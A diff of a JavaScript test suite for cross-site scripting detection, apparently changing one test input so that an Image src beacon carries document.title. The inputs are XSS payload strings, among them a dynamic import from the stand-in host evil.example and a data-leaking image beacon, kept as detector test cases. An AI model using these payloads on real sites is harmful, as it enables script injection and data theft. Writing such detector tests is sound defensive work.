@@ -263,7 +263,7 @@ describe('Cross-site scripting', () => {
       ["setTimeout('x',1)"],
       ['String.fromCharCode(97,98)'],
       ["import('//evil.example/x.js')"],
-      ['new Image().src=x'],
+      ['new Image().src=document.title'],
       ['x`$\x7balert}`'],
     );
     sees(
